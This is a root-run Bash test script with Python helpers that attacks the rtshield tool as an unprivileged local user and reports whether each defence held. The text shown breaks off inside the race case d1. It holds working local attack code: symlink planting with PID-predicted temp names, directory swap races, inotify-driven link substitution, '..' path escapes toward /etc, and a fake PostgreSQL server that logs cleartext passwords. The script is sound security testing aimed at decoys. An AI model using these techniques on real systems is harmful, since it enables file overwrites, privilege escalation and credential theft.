#!/usr/bin/env bash
# Attack root's rtshield as an unprivileged local user (and as a careless
# root), through its command line only, and say for every attack whether it
# held. One line per case:
#
#   held: NAME (what was seen)
#   BROKEN: NAME (what happened)
#
# and the counts at the end (exit 0 only when every case held).
#
#   sudo bench/adversarial.sh               # target/release or target/debug rtshield
#   sudo RTSHIELD=/path/to/rtshield bench/adversarial.sh
#   sudo ADV_ONLY='^(n0[1-4]|p-)' bench/adversarial.sh   # only the cases whose NAME matches
#   sudo ADV_LIST=1 bench/adversarial.sh    # print the case names and exit
#   sudo ADV_HELPERS=DIR bench/adversarial.sh  # copy the Python helpers to DIR and exit
#
# Settings (environment):
#   ADV_USER          the attacker (default rtsatk, created uid 2345 if missing;
#                     it needs no home directory: the script makes one in its temp dir)
#   ADV_RACE_SECONDS  time given to each race (default 20)
#   ADV_RACE_TRIES    tries of the slow races (default 20)
#   ADV_WORK_SECONDS  limit for the "bounded work" cases (default 60)
#   ADV_HUGE_SECONDS  limit for the huge/endless input cases f1-f3 (default 30:
#                     a debug build needs 3 s for f3 on an idle 2-vCPU VM, over
#                     10 s when other builds run; the RSS limit is the real check)
#   ADV_LOCK          lock file taken around the tracefs cases (default
#                     /tmp/rtshield-live.lock when it exists: the live tests' lock)
#
# Groups of cases (docs/security.md lists them with the guarantee each checks):
#   a1-f3   the previous review's attacks (planted links, world-writable dirs,
#           partition state, report -o races, full disk, huge inputs)
#   n01-n13 one case (or a few) per numbered finding of issue 21
#   p-*     the path layer: every writing option through planted links
#           (final, middle, trailing `/`, `/.`, `..`)
#   r-*     races: a directory swapped for a link while root writes
#   s-*     the store: attacker-owned file, -wal/-shm/-journal, HOME/XDG/
#           RTSHIELD_STORE of another user (sudo -E), TLS to PostgreSQL
#   t-*     temporary places: TMPDIR, fallback, io load files, size bounds
#   v-*     RTSHIELD_* variables (sudo -E, env_keep)
#   g-*     signals and leftovers (SIGHUP, SIGQUIT, SIGKILL; tracefs)
#   e-*     encoders: gnuplot, Markdown, CSV, HTML, SVG, XML, OpenMetrics, terminal
#   x-*     parse errors echoing files the attacker could not read
#   w-*     bounded work
#   r5a-*   round 5 (A, secrets, encoders, processes): every captured form
#           of a password, a password file of another user, bidi and
#           invisible characters, CSV controls, daemonised campaign loads
#   r5a-*   round 5 (A): config trust, input links, new directories, output
#           reuse (docs/security.md, "Adversary round 5 (A)")
#   r5b-*   round 5 (B): store trust, bounded work, signals, leftovers,
#           links inside a sysroot (docs/security.md, "Adversary round 5 (B)")
#
# Safety: everything happens in a private temp dir (removed on exit, also on
# Ctrl-C). Victims are decoys the script made there. Partition cases run on
# fake trees (--sysroot) only, never on this machine's cgroups. The one
# PostgreSQL "server" is a fake on 127.0.0.1 started and stopped here. The
# full-disk cases mount small tmpfs inside the temp dir (unmounted on exit).
# The tracefs cases (g-*) kill only the rtshield they started; the trace
# instance it leaves and tracefs mounted by it are removed by the exit trap.
# The squatting case (n06) creates the attacker's empty `rtshield-fallback`
# in /tmp and /dev/shm only when none exists, and removes it right after.
# fs.protected_symlinks is not changed (the attacks use directories the
# attacker owns, where it does not apply).
set -u
export LC_ALL=C

[ "$(id -u)" = 0 ] || { echo "run as root (the attacks target root's rtshield)" >&2; exit 1; }

HERE=$(cd "$(dirname "$0")/.." && pwd)
BIN=${RTSHIELD:-}
if [ -z "$BIN" ]; then
    for b in target/release/rtshield target/debug/rtshield; do
        if [ -x "$HERE/$b" ]; then BIN=$HERE/$b; break; fi
    done
fi
if [ -z "$BIN" ]; then
    (cd "$HERE" && cargo build -q) || exit 1
    BIN=$HERE/target/debug/rtshield
fi
case $BIN in /*) ;; *) BIN=$PWD/$BIN ;; esac
FIX=$HERE/tests/fixtures/report/real
PY=/usr/bin/python3
[ -x "$PY" ] || { echo "needs $PY" >&2; exit 1; }
ADV_USER=${ADV_USER:-rtsatk}
if ! id -u "$ADV_USER" >/dev/null 2>&1; then
    if [ "$ADV_USER" = rtsatk ]; then
        if getent passwd 2345 >/dev/null; then useradd -M -s /usr/sbin/nologin rtsatk
        else useradd -M -u 2345 -s /usr/sbin/nologin rtsatk; fi || exit 1
    else
        echo "no user $ADV_USER" >&2; exit 1
    fi
fi
AUID=$(id -u "$ADV_USER")
AGID=$(id -g "$ADV_USER")
[ "$AUID" != 0 ] || { echo "ADV_USER must not be root" >&2; exit 1; }
RACE_SECONDS=${ADV_RACE_SECONDS:-20}
RACE_TRIES=${ADV_RACE_TRIES:-20}
WORK_SECONDS=${ADV_WORK_SECONDS:-60}
HUGE_SECONDS=${ADV_HUGE_SECONDS:-30}
ONLY=${ADV_ONLY:-}
LOCK=${ADV_LOCK:-}
[ -z "$LOCK" ] && [ -e /tmp/rtshield-live.lock ] && LOCK=/tmp/rtshield-live.lock

# Root's environment is the script's, not the caller's: no RTSHIELD_*
# variable leaks in (the v-* cases set them on purpose), no store is
# touched unless a case names one, HOME is a private directory.
for v in $(env | sed -n 's/^\(RTSHIELD_[A-Z_]*\)=.*/\1/p'); do unset "$v"; done
unset XDG_DATA_HOME PGPASSWORD PGPASSFILE TMPDIR
export RTSHIELD_NO_STORE=1

as_user() { setpriv --reuid="$AUID" --regid="$AGID" --clear-groups -- "$@"; }
# For background helpers: `"${AS_USER[@]}" cmd &` makes $! the helper itself
# (a backgrounded shell function would be a subshell whose kill leaves it running).
AS_USER=(setpriv --reuid="$AUID" --regid="$AGID" --clear-groups --)

WORK=$(mktemp -d /tmp/rtshield-adv.XXXXXX)
chmod 755 "$WORK"
LOG=$WORK/log; mkdir "$LOG"
LIB=$WORK/lib; mkdir "$LIB"
RUN=$WORK/run; mkdir "$RUN"                 # root's current directory
ROOTSIDE=$WORK/rootside; mkdir "$ROOTSIDE"  # root's own directories: the victims
STICKY=$WORK/sticky; mkdir "$STICKY"; chmod 1777 "$STICKY"   # like /tmp
ATT=$WORK/attacker                          # the attacker's own directory (like a home)
mkdir "$ATT" && chown "$AUID:$AGID" "$ATT" && chmod 755 "$ATT"
export HOME=$WORK/home-root; mkdir -m 700 "$HOME"
cd "$RUN" || exit 1

BG_PIDS=()      # attacker helpers and pollers (killed by pid)
ROOT_PIDS=()    # rtshield processes started in the background
MOUNTS=()       # tmpfs mounted by the script
EXTRA_RM=()     # paths outside WORK this run created (squats, fallbacks)
TRACE_PIDS=()   # rtshield pids whose trace instance may be left
FALLBACK_BEFORE=$(ls -d /tmp/rtshield-fallback /dev/shm/rtshield-fallback 2>/dev/null | tr '\n' ' ')
TRACEFS_BEFORE=$(awk '$9 == "tracefs" {print $5}' /proc/self/mountinfo | sort | tr '\n' ' ')

stop_bg() { # pid...: kill and reap helpers this script started
    local p
    for p in "$@"; do kill "$p" 2>/dev/null; wait "$p" 2>/dev/null; done
}
trace_cleanup() {
    local p t d
    for t in $(awk '$9 == "tracefs" {print $5}' /proc/self/mountinfo); do
        for p in "${TRACE_PIDS[@]}"; do
            d=$t/instances/rtshield-$p
            [ -d "$d" ] || continue
            kill -0 "$p" 2>/dev/null && continue
            echo 0 >"$d/tracing_on" 2>/dev/null
            rmdir "$d" 2>/dev/null
        done
    done
    # tracefs mounted during this run (by an rtshield we started) and used
    # by no live rtshield: unmount it.
    for t in $(awk '$9 == "tracefs" {print $5}' /proc/self/mountinfo); do
        case " $TRACEFS_BEFORE " in *" $t "*) continue ;; esac
        if [ -z "$(ls "$t/instances" 2>/dev/null)" ]; then umount "$t" 2>/dev/null; fi
    done
}
cleanup() {
    stop_bg "${BG_PIDS[@]}" "${ROOT_PIDS[@]}"
    [ ${#TRACE_PIDS[@]} -gt 0 ] && trace_cleanup
    local m
    for m in "${MOUNTS[@]}"; do mountpoint -q "$m" 2>/dev/null && umount "$m"; done
    for m in "${EXTRA_RM[@]}"; do rm -rf -- "$m"; done
    cd / && rm -rf "$WORK"
}
trap cleanup EXIT
trap 'exit 130' INT TERM HUP

HELD=0
BROKEN=0
BROKEN_NAMES=()
CUR=""          # the case running (exactly one verdict each)
VERDICTS=0
# One line, printable ASCII only: rtshield's own messages may carry the
# escape sequences and huge tokens the cases plant.
clean() { head -c "${1:-300}" | tr '\n\t' '  ' | tr -c '[:print:]' '?' | sed 's/  */ /g'; }
first_err() { clean "${2:-300}" <"$1"; }
held() { # name detail
    printf 'held: %s (%s)\n' "$1" "$(printf '%s' "$2" | clean 600)"
    HELD=$((HELD + 1)); VERDICTS=$((VERDICTS + 1))
}
broken() { # name detail
    printf 'BROKEN: %s (%s)\n' "$1" "$(printf '%s' "$2" | clean 600)"
    BROKEN=$((BROKEN + 1)); BROKEN_NAMES+=("$1"); VERDICTS=$((VERDICTS + 1))
}
verdict() { # name ok(1/0) detail
    if [ "$2" = 1 ]; then held "$1" "$3"; else broken "$1" "$3"; fi
}
want() { [ -z "$ONLY" ] || [[ $1 =~ $ONLY ]]; }
ALL_CASES=()
run_case() { # NAME FUNCTION [ARGS...]: the function gives exactly one verdict for NAME
    local name=$1; shift
    ALL_CASES+=("$name")
    [ -n "${ADV_LIST:-}" ] && { echo "$name"; return; }
    want "$name" || return 0
    CUR=$name
    local before=$VERDICTS
    "$@"
    [ $VERDICTS = "$before" ] && broken "$name" "the case gave no verdict (script error)"
    CUR=""
}

# rtshield as root, in $RUN, with a time limit: rr NAME SECONDS ARGS...
# (stdout/stderr in $LOG/NAME.out|.err, exit status in RC)
RC=0
rr() {
    local n=$1 t=$2; shift 2
    timeout -k 5 "$t" "$BIN" "$@" >"$LOG/$n.out" 2>"$LOG/$n.err"; RC=$?
}
# A directory's state (names, types, sizes, owners, link targets, contents).
snap() {
    (cd "$1" 2>/dev/null || exit 0
     find . -printf '%p|%y|%s|%U|%l\n' | sort
     find . -type f -print0 | sort -z | xargs -0r md5sum) | md5sum | cut -c1-16
}
lsd() { (cd "$1" 2>/dev/null && find . -mindepth 1 -maxdepth 2 | sort | head -12 | tr '\n' ' '); }
# Still the decoy's original content?
is_precious() { printf 'precious\n' | cmp -s - "$1"; }
# A root-owned victim directory holding the given files, each "precious".
victim_dir() { # dir file...
    local d=$1; shift
    mkdir -p "$d"; chmod 755 "$d"
    local f
    for f in "$@"; do echo precious >"$d/$f"; done
}
MCPU=0
LCPU=$(awk -F- '{print $NF}' /sys/devices/system/cpu/online)
[ "$LCPU" -ge 1 ] 2>/dev/null && LCPU=1 || LCPU=0
MEASURE=(measure --duration 1s --period 1ms --policy other -q --no-memlock --no-dma-latency --cpus "$MCPU")
ESC=$'\e'

# ---------------------------------------------------------------------------
# Helpers in Python (readable by the attacker; run as root or as the attacker)
# ---------------------------------------------------------------------------

# A fake /proc + /sys tree like rtshield_partition::fake::FakeSpec::standard
# (4 CPUs; tasks 1 init, 2 kthreadd, 14/22 ksoftirqd, 35 kworker, 101, 102):
# faketree.py DIR v1|v2
cat >"$LIB/faketree.py" <<'EOF'
import os, sys, json
base, style = sys.argv[1], sys.argv[2]
ncpus = 4
tasks = [(1, "init", 0, 0), (2, "kthreadd", 1, 0), (14, "ksoftirqd/0", 1, 1),
         (22, "ksoftirqd/3", 1, 1), (35, "kworker/u8:2", 1, 0), (101, "sshd", 0, 0), (102, "app", 0, 0)]
def w(p, s):
    f = os.path.join(base, p.lstrip("/"))
    os.makedirs(os.path.dirname(f), exist_ok=True)
    with open(f, "w") as fh:
        fh.write(s)
allc = "0-%d" % (ncpus - 1); mask = "%x" % ((1 << ncpus) - 1)
w("/sys/devices/system/cpu/online", allc + "\n"); w("/sys/devices/system/cpu/possible", allc + "\n")
w("/sys/devices/system/cpu/isolated", "\n"); w("/proc/sys/kernel/osrelease", "6.1.0-fake\n")
w("/boot/config-6.1.0-fake", "CONFIG_CPU_ISOLATION=y\nCONFIG_NO_HZ_FULL=y\nCONFIG_HZ=250\n")
w("/proc/cmdline", "console=ttyS0 quiet\n")
for k, v in [("kernel/timer_migration", "1"), ("vm/stat_interval", "1"), ("kernel/watchdog_cpumask", allc),
             ("kernel/sched_rt_runtime_us", "950000"), ("kernel/sched_rt_period_us", "1000000")]:
    w("/proc/sys/" + k, v + "\n")
w("/proc/irq/default_smp_affinity", mask + "\n")
for n, aff in [(24, "0-3"), (30, "0-3"), (36, "3"), (41, "0")]:
    w("/proc/irq/%d/smp_affinity_list" % n, aff + "\n"); w("/proc/irq/%d/smp_affinity" % n, mask + "\n")
    w("/proc/irq/%d/effective_affinity_list" % n, aff + "\n")
w("/sys/devices/virtual/workqueue/cpumask", mask + "\n")
for q in ["writeback", "blkcg_punt_bio"]:
    w("/sys/devices/virtual/workqueue/%s/cpumask" % q, mask + "\n")
lst = "".join("%d\n" % t[0] for t in tasks)
if style == "v1":
    m = "/sys/fs/cgroup/cpuset"
    w("/proc/self/mountinfo", "34 31 0:31 / %s rw,relatime - cgroup cgroup rw,cpuset\n" % m)
    for k, v in [("cpuset.cpus", allc), ("cpuset.effective_cpus", allc), ("cpuset.mems", "0"),
                 ("cpuset.cpu_exclusive", "1"), ("cpuset.sched_load_balance", "1"), ("notify_on_release", "0")]:
        w(m + "/" + k, v + "\n")
    w(m + "/tasks", lst); w(m + "/cgroup.procs", "")
else:
    m = "/sys/fs/cgroup"
    w("/proc/self/mountinfo", "30 23 0:27 / %s rw,relatime - cgroup2 cgroup2 rw\n" % m)
    w(m + "/cgroup.controllers", "cpuset cpu io memory pids\n"); w(m + "/cgroup.subtree_control", "cpu memory\n")
    w(m + "/cpuset.cpus.effective", allc + "\n"); w(m + "/cpuset.mems.effective", "0\n"); w(m + "/cgroup.procs", lst)
for tid, name, kt, pinned in tasks:
    w("/proc/%d/status" % tid, "Name:\t%s\nState:\tS (sleeping)\nPPid:\t%d\nKthread:\t%d\nCpus_allowed_list:\t%s\n"
      "voluntary_ctxt_switches:\t%d\nnonvoluntary_ctxt_switches:\t%d\n" % (name, 2 if kt else 1, kt, allc, tid * 10, tid))
    flags = (0x200000 if kt else 0) | (0x4000000 if pinned else 0)
    w("/proc/%d/stat" % tid, "%d (%s) S 1 0 0 0 -1 %d 0 0 0 0 0 0\n" % (tid, name, flags))
EOF

# A results.json made from a real one with hostile fields:
# hostile.py SRC OUT [key=JSON]... (label="...", tags={...}, threads=N,
# hostname="...", max_ns=N)
cat >"$LIB/hostile.py" <<'EOF'
import json, sys
src, out = sys.argv[1], sys.argv[2]
d = json.load(open(src))
for kv in sys.argv[3:]:
    k, v = kv.split("=", 1)
    v = json.loads(v)
    if k == "threads":
        t = d["threads"][0]
        d["threads"] = [dict(t, index=i, tid=1000 + i, cpu=i % 4) for i in range(v)]
    elif k == "hostname":
        d["sysinfo"]["hostname"] = v
    elif k in ("max_ns", "samples"):
        for t in d["threads"]:
            t[k] = v
    else:
        d[k] = v
json.dump(d, open(out, "w"))
EOF

# Swap two names back and forth (renameat2 RENAME_EXCHANGE) for SECONDS:
# exchange.py DIR A B SECONDS
cat >"$LIB/exchange.py" <<'EOF'
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
os.chdir(sys.argv[1]); a, b = sys.argv[2].encode(), sys.argv[3].encode()
end = time.time() + float(sys.argv[4])
while time.time() < end:
    for _ in range(2000):
        libc.renameat2(-100, a, -100, b, 2)
EOF

# Watch DIR (inotify) for entries root creates whose name matches REGEX;
# move each away and put in its place, at once, either a symlink to TARGET
# (mode link) or a prepared copy of the directory TEMPLATE (mode dir).
# Between events, an entry of that name left over (root's or ours) is moved
# away so that root creates it again. Prints every entry root creates there
# ("created by root: NAME") and every swap ("swapped: NAME").
# swapin.py DIR REGEX link|dir TARGET|TEMPLATE SECONDS [NREADY]
cat >"$LIB/swapin.py" <<'EOF'
import ctypes, os, re, select, shutil, struct, sys, time
d, rx, mode, what, secs = sys.argv[1], re.compile(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])
nready = int(sys.argv[6]) if len(sys.argv) > 6 else 8
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
libc.inotify_add_watch(fd, d.encode(), 0x100)  # IN_CREATE
def ready(k):
    p = os.path.join(d, ".ready-%d" % k)
    if not os.path.lexists(p):
        if mode == "link":
            os.symlink(what, p)
        else:
            shutil.copytree(what, p, symlinks=True)
    return p
for k in range(nready):
    ready(k)
print("ready", flush=True)
n = 0; moved = 0
end = time.time() + secs
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 0.2)
    if not os.path.isdir(d):
        break
    if not r:
        for e in os.listdir(d):
            if rx.fullmatch(e):
                try:
                    os.rename(os.path.join(d, e), os.path.join(d, ".old-%d-%d" % (moved, time.time_ns()))); moved += 1
                except OSError:
                    pass
        continue
    buf = os.read(fd, 65536); i = 0
    while i < len(buf):
        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i)
        name = buf[i + 16:i + 16 + ln].rstrip(b"\0").decode(errors="replace"); i += 16 + ln
        p = os.path.join(d, name)
        try:
            uid = os.stat(p, follow_symlinks=False).st_uid
        except OSError:
            uid = -1
        if uid == 0:
            print("created by root:", name, flush=True)
        if not rx.fullmatch(name) or uid != 0:
            continue
        try:
            os.rename(p, os.path.join(d, ".moved-%d" % n))
            os.rename(ready(n), p); n += 1
            print("swapped:", name, flush=True)
            ready(n + nready)
        except OSError:
            pass
EOF

# A fake PostgreSQL server on 127.0.0.1: records what a client sends before
# authentication (an SSLRequest or not, TLS or not, the password in clear
# or inside TLS), then refuses the login.
# fakepg.py PORTFILE LOGFILE tls|notls CERT KEY
cat >"$LIB/fakepg.py" <<'EOF'
import socket, ssl, struct, sys, threading
port_file, log_file, mode, cert, key = sys.argv[1:6]
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(8)
open(port_file + ".tmp", "w").write(str(srv.getsockname()[1]))
import os; os.rename(port_file + ".tmp", port_file)
lock = threading.Lock()
def log(s):
    with lock, open(log_file, "a") as f:
        f.write(s + "\n")
def recv_exact(c, n):
    b = b""
    while len(b) < n:
        x = c.recv(n - len(b))
        if not x:
            raise EOFError
        b += x
    return b
def handle(c):
    tls = False
    try:
        c.settimeout(20)
        n, code = struct.unpack("!II", recv_exact(c, 8))
        if n == 8 and code == 80877103:
            log("sslrequest")
            if mode == "tls":
                c.sendall(b"S")
                ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain(cert, key)
                c = ctx.wrap_socket(c, server_side=True); tls = True
                log("tls-established")
            else:
                c.sendall(b"N")
            n, code = struct.unpack("!II", recv_exact(c, 8))
        log("startup-" + ("tls" if tls else "clear"))
        recv_exact(c, n - 8)
        c.sendall(b"R" + struct.pack("!II", 8, 3))   # AuthenticationCleartextPassword
        recv_exact(c, 1); ln = struct.unpack("!I", recv_exact(c, 4))[0]
        body = recv_exact(c, ln - 4)
        log("password-%s:%s" % ("tls" if tls else "clear", body.rstrip(b"\0").decode(errors="replace")))
        msg = b"SFATAL\0C28P01\0Mfake server: no login\0\0"
        c.sendall(b"E" + struct.pack("!I", len(msg) + 4) + msg)
    except Exception as e:
        log("closed-" + type(e).__name__)
    finally:
        try:
            c.close()
        except Exception:
            pass
while True:
    c, _ = srv.accept()
    threading.Thread(target=handle, args=(c,), daemon=True).start()
EOF
chmod 644 "$LIB"/*.py

if [ -n "${ADV_HELPERS:-}" ]; then   # for reproducing a case by hand
    mkdir -p "$ADV_HELPERS" && cp "$LIB"/*.py "$ADV_HELPERS"/ && echo "helpers in $ADV_HELPERS: $(cd "$LIB" && ls | tr "\n" " ")"
    exit 0
fi

# Templates made once, on demand.
TPL=$WORK/tpl; mkdir "$TPL"; chmod 755 "$TPL"
# A store holding the idle fixture (world-readable copy the attacker may use).
need_store_tpl() {
    [ -s "$TPL/runs.db" ] && return
    "$BIN" runs import "$FIX/idle" --store "$TPL/store/runs.db" >/dev/null 2>&1
    cp "$TPL/store/runs.db" "$TPL/runs.db"; chmod 644 "$TPL/runs.db"
}
# Root's earlier report (md+csv, and a full one).
need_report_tpl() {
    [ -d "$TPL/report-md" ] && return
    "$BIN" report "$FIX/hell" -o "$TPL/report-md" --format md,csv >/dev/null 2>&1
    "$BIN" report "$FIX/hell" -o "$TPL/report-all" >/dev/null 2>&1
}
# A run configuration: one OTHER timer thread for DUR.
cfg() { # file dur [extra sections]
    cat >"$1" <<EOF
main
{
  stats.period 100 ms
}
timer_thread[0]
{
  cpu_affinity $MCPU
  sched.policy OTHER
  period 1 ms
  lifetime.duration $2
}
${3:-}
EOF
}
cfg "$LIB/run1s.cfg" "1 s"
cat >"$LIB/tiny.scn" <<'EOF'
loops_per_us = 1
timeout = 2s
{
name = w
loop = 1000
count = 1
}
EOF
cat >"$LIB/tiny.toml" <<EOF
name = "adv"
cpus = "$MCPU"
duration = "1s"
repeat = 1

[measure]
period = "1ms"
policy = "other"

[axes]
load = ["idle"]
isolation = ["none"]
EOF
chmod 644 "$LIB"/*

# ===========================================================================
# a-f: the previous review's attacks (kept as they were, one verdict each)
# ===========================================================================

# Plant symlinks to VICTIM in each DIR (as the attacker) for every name
# rtshield writes and for the old predictable temporary names
# (.NAME.tmp<PID>) of the next NPIDS PIDs. One python process, so that
# planting does not itself use up the PIDs it predicts.
plant() { # npids victim dir...
    as_user "$PY" - "$@" <<'EOF'
import os, sys
npids, victim, dirs = int(sys.argv[1]), sys.argv[2], sys.argv[3:]
names = "results.json results.csv histogram.txt timer_thread00.txt timeline.csv".split()
last = int(open("/proc/sys/kernel/ns_last_pid").read())
for d in dirs:
    os.makedirs(d, mode=0o777, exist_ok=True)
    os.chmod(d, 0o777)
    for n in names:
        os.symlink(victim, os.path.join(d, n))
    for pid in range(last + 1, last + 1 + npids):
        for n in names[:4]:
            os.symlink(victim, os.path.join(d, ".%s.tmp%d" % (n, pid)))
EOF
}

case_a1() {
    local V=$ROOTSIDE/victim-a1; echo precious >"$V"
    plant 300 "$V" "$ATT/out-a1"
    rr a1 60 "${MEASURE[@]}" --out "$ATT/out-a1"
    if is_precious "$V"; then held "$CUR" "measure --out <attacker's dir with links>: victim intact (exit $RC: $(first_err "$LOG/a1.err" 160))"
    else broken "$CUR" "measure --out <attacker's dir with links>: victim overwritten (exit $RC)"; fi
}
case_a2() {
    local V=$ROOTSIDE/victim-a2; echo precious >"$V"
    plant 300 "$V" "$ATT/out-a2"
    rr a2 60 run -q "$LIB/run1s.cfg" --out "$ATT/out-a2"
    if is_precious "$V"; then held "$CUR" "run --out <attacker's dir with links>: victim intact (exit $RC: $(first_err "$LOG/a2.err" 160))"
    else broken "$CUR" "run --out <attacker's dir with links>: victim overwritten (exit $RC)"; fi
}
case_a3() { # the default ./rtshield-results/STAMP, predicted by the attacker
    local V=$ROOTSIDE/victim-a3; echo precious >"$V"
    local C=$WORK/cwd-a3; mkdir "$C"; chmod 1777 "$C"
    as_user mkdir -m 777 "$C/rtshield-results"
    local now i stamps=()
    now=$(date -u +%s)
    for i in 0 1 2 3; do stamps+=("$C/rtshield-results/$(date -u -d "@$((now + i))" +%Y%m%d-%H%M%S)"); done
    plant 50 "$V" "${stamps[@]}"
    cd "$C" && rr a3 60 "${MEASURE[@]}"; cd "$RUN" || return
    if is_precious "$V"; then held "$CUR" "measure (default rtshield-results/STAMP, predicted): victim intact (exit $RC: $(first_err "$LOG/a3.err" 160))"
    else broken "$CUR" "measure (default rtshield-results/STAMP, predicted): victim overwritten (exit $RC)"; fi
}
case_b1() {
    local D=$WORK/ww-b1; mkdir -m 777 "$D"; chmod 777 "$D"
    rr b1 60 "${MEASURE[@]}" --out "$D"
    if [ $RC = 2 ] && grep -q -- --force-unsafe-dir "$LOG/b1.err" && [ -z "$(ls -A "$D")" ]; then held "$CUR" "measure --out <mode 777 dir>: refused, exit 2"
    else broken "$CUR" "measure --out <mode 777 dir>: exit $RC, $(ls -A "$D" | wc -l) files written"; fi
}
case_b2() {
    local D=$WORK/ww-b2; mkdir -m 777 "$D"; chmod 777 "$D"
    rr b2 60 report "$FIX/idle" -o "$D" --format md
    if [ $RC = 2 ] && grep -q -- --force-unsafe-dir "$LOG/b2.err" && [ -z "$(ls -A "$D")" ]; then held "$CUR" "report -o <mode 777 dir>: refused, exit 2"
    else broken "$CUR" "report -o <mode 777 dir>: exit $RC, $(ls -A "$D" | wc -l) files written"; fi
}
# A minimal cgroup v2 tree: enough for `partition undo` to find its hierarchy.
mktree() { # dir
    mkdir -p "$1/proc/self" "$1/sys/fs/cgroup" "$1/proc/irq" "$1/run/rtshield"
    echo "30 23 0:26 / /sys/fs/cgroup rw,nosuid,nodev,noexec - cgroup2 cgroup2 rw" >"$1/proc/self/mountinfo"
    echo "cpuset cpu io memory" >"$1/sys/fs/cgroup/cgroup.controllers"
}
# The state undo would act on: writes `pwned` to a file outside the tree
# through `..`, removes a directory outside it, writes /etc/... in the tree.
state_json() { # victim-relative-escape victimdir-escape
    cat <<EOF
{ "version": 1, "phase": "complete", "created_unix": 0,
  "hierarchy": { "kind": "v2", "mount": "/sys/fs/cgroup" },
  "parent": "/sys/fs/cgroup", "rt_dir": "/sys/fs/cgroup/rt", "nrt_dir": "/sys/fs/cgroup/nrt",
  "rt_cpus": "1", "nrt_cpus": "0",
  "dirs": [ "/sys/fs/cgroup/../../../../$2" ],
  "files": [ { "knob": "sysctl", "path": "/etc/hostname", "old": "pwned\n", "new": "x\n" },
             { "knob": "irq", "path": "/proc/irq/../../../$1", "old": "pwned\n", "new": "x\n" } ],
  "tasks": [] }
EOF
}
check_c() { # what tree victim victimdir err
    local intact=1
    [ "$(cat "$3")" = precious ] || intact=0
    [ -d "$4" ] || intact=0
    [ "$(cat "$2/etc/hostname" 2>/dev/null)" = precious ] || intact=0
    if [ "$RC" = 2 ] && [ $intact = 1 ]; then held "$CUR" "$1: refused, exit 2, nothing changed ($(first_err "$5" 200))"
    else broken "$CUR" "$1: exit $RC, victim/victimdir/etc intact=$intact"; fi
}
case_c1() { # the tree and its state file belong to the attacker
    local T=$ATT/tree-c1
    as_user bash -c "$(declare -f mktree); mktree '$T'; mkdir -p '$T/etc'; echo precious > '$T/etc/hostname'"
    echo precious >"$WORK/victim-c1"; mkdir "$WORK/victimdir-c1"
    # The tree is two levels below WORK: `../../../` from /proc/irq reaches $WORK/attacker.
    state_json ../victim-c1 ../victimdir-c1 | as_user tee "$T/run/rtshield/partition.json" >/dev/null
    as_user chmod 600 "$T/run/rtshield/partition.json"; as_user chmod 700 "$T/run/rtshield"
    rr c1 30 --sysroot "$T" partition undo
    check_c "undo with the attacker's state file (owned by uid $AUID, 0600)" "$T" "$WORK/victim-c1" "$WORK/victimdir-c1" "$LOG/c1.err"
}
case_c2() { # a root-owned, private state file whose paths escape with `..`
    local T=$WORK/tree-c2
    mktree "$T"; mkdir -p "$T/etc"; echo precious >"$T/etc/hostname"
    echo precious >"$WORK/victim-c2"; mkdir "$WORK/victimdir-c2"
    chmod 700 "$T/run/rtshield"
    (umask 077; state_json victim-c2 victimdir-c2 >"$T/run/rtshield/partition.json")
    rr c2 30 --sysroot "$T" partition undo
    check_c "undo with a root-owned state holding '..' and /etc paths" "$T" "$WORK/victim-c2" "$WORK/victimdir-c2" "$LOG/c2.err"
}
case_c3() { # a state saved for --parent a-b must not be taken by `undo --parent a_b`
    local T=$WORK/tree-c3
    mktree "$T"; mkdir -p "$T/sys/fs/cgroup/a-b/rt" "$T/sys/fs/cgroup/a_b"
    chmod 700 "$T/run/rtshield"
    (umask 077; cat >"$T/run/rtshield/partition-a_b.json" <<'EOF'
{ "version": 1, "phase": "complete", "created_unix": 0,
  "hierarchy": { "kind": "v2", "mount": "/sys/fs/cgroup" },
  "parent": "/sys/fs/cgroup/a-b", "rt_dir": "/sys/fs/cgroup/a-b/rt", "nrt_dir": "/sys/fs/cgroup/a-b/nrt",
  "rt_cpus": "1", "nrt_cpus": "0",
  "dirs": [ "/sys/fs/cgroup/a-b/rt" ], "files": [], "tasks": [] }
EOF
)
    rr c3 30 --sysroot "$T" partition undo --parent a_b
    if [ -d "$T/sys/fs/cgroup/a-b/rt" ]; then held "$CUR" "undo --parent a_b beside a-b's (old-style) state: a-b/rt kept (exit $RC)"
    else broken "$CUR" "undo --parent a_b removed the partition of a-b (exit $RC)"; fi
}
case_d1() { # report -o DIR while the attacker swaps DIR and a link to root's dir
    local R=$ROOTSIDE/rootdir-d1; mkdir "$R"; echo precious >"$R/latency-precious.dat"
    as_user bash -c "mkdir '$ATT/out-d1' && ln -s '$R' '$ATT/link-d1'"
    # DIR is always either the real directory or the link, flipping every
    # few microseconds; the manifest and the bait file are planted again
    # and again through a descriptor of the real directory.
    setpriv --reuid="$AUID" --regid="$AGID" --clear-groups -- "$PY" -c '
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
os.chdir(sys.argv[1])
fd = os.open("out-d1", os.O_RDONLY | os.O_DIRECTORY)
def put(name, text):
    try:
        os.unlink(name, dir_fd=fd)
    except OSError:
        pass
    try:
        f = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644, dir_fd=fd)
        os.write(f, text.encode()); os.close(f)
    except OSError:
        pass
i = 0
while True:
    if i % 64 == 0:
        put(".rtshield-report", "latency-precious.dat\nsummary.md\nsummary.csv\n")
        put("latency-precious.dat", "mine\n")
    libc.renameat2(-100, b"out-d1", -100, b"link-d1", 2)
    i += 1
' "$ATT" &
    local sw=$!; BG_PIDS+=($sw)
    local force=()
    "$BIN" report --help | grep -q -- --force-unsafe-dir && force=(--force-unsafe-dir)
    local end=$((SECONDS + RACE_SECONDS)) tries=0 ok=0
    while [ $SECONDS -lt $end ]; do
        "$BIN" report "$FIX/idle" -o "$ATT/out-d1" --format md,csv "${force[@]}" >/dev/null 2>&1 && ok=$((ok + 1))
        tries=$((tries + 1))
        [ -f "$R/latency-precious.dat" ] || break
    done
    stop_bg $sw
    local extra
    extra=$(ls -A "$R" | grep -vx latency-precious.dat | tr '\n' ' ')
